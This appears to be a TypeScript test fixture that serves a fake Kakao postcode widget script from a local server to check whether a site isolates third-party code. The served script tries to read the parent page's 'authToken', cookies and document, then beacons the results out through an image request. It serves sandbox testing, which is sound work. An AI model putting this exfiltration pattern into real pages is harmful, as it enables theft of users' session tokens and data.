import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** The parts of its environment that the script could access. */
export interface Observation {
  origin: string
  ownStorage: string
  ownCookies: string
  siteStorage: string
  siteDocument: string
}

export interface PostcodeScript {
  readonly url: string
  /** One observation per run of the script. */
  readonly observations: readonly Observation[]
  close(): Promise<void>
}

export const FOUND = { zonecode: '06236', roadAddress: '서울 강남구 테헤란로 152' }

/**
 * Behaves like the look-up service's own script, and reports to its own server what a script in its place could
 * access. The report is sent by loading a picture, because the page allows no connections.
 */
const SCRIPT = `(() => {
  const home = new URL(document.currentScript.src).origin
  const look = (get) => { try { return 'got ' + String(get()) } catch (error) { return error.name } }
  const observed = {
    origin: self.origin,
    ownStorage: look(() => localStorage.length),
    ownCookies: look(() => document.cookie),
    siteStorage: look(() => parent.localStorage.getItem('authToken')),
    siteDocument: look(() => parent.document.title),
  }
  new Image().src = home + '/observed?' + new URLSearchParams(observed)
  window.kakao = {
    Postcode: class {
      constructor(options) { this.options = options }
      embed(element) {
        const button = document.createElement('button')
        button.textContent = '${FOUND.roadAddress}'
        button.onclick = () => this.options.oncomplete({
          ...${JSON.stringify(FOUND)}, address: '', jibunAddress: '', buildingName: '',
        })
        element.append(button)
      }
    },
  }
})()`

export async function startPostcodeScript(): Promise<PostcodeScript> {
  const observations: Observation[] = []
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://localhost')
    if (pathname === '/postcode.js') {
      response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8' }).end(SCRIPT)
      return
    }
    if (pathname === '/observed')
      observations.push(Object.fromEntries(searchParams) as unknown as Observation)
    response.writeHead(204).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/postcode.js`,
    observations,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}
